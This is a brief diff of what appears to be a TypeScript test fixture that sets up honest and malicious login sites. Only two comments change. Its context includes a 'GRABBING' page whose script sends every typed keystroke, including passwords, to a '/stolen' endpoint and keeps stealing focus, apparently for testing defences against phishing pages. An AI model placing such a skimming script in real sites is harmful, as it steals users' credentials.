@@ -10,7 +10,7 @@ export interface Arrived {
   readonly form: URLSearchParams;
 }
 
-/** Sites with logins over https, honest and not, all on one server: the host of a request tells which. */
+/** Sites with logins over https, honest and not, all on one server: the host of a request says which. */
 export interface LoginSite {
   readonly port: number;
   readonly spki: string;
@@ -49,7 +49,7 @@ const REFLECTING = `<div id="out"></div><script>
   });
 </script>`;
 
-/** Takes whatever keys arrive, and tells. */
+/** Takes whatever keys arrive, and reports them. */
 const GRABBING = `<input id="u" autofocus><input id="p" type="password"><script>
   addEventListener('input', event => fetch('/stolen?v=' + encodeURIComponent(event.target.value)));
   setInterval(() => document.querySelector('input').focus(), 5);
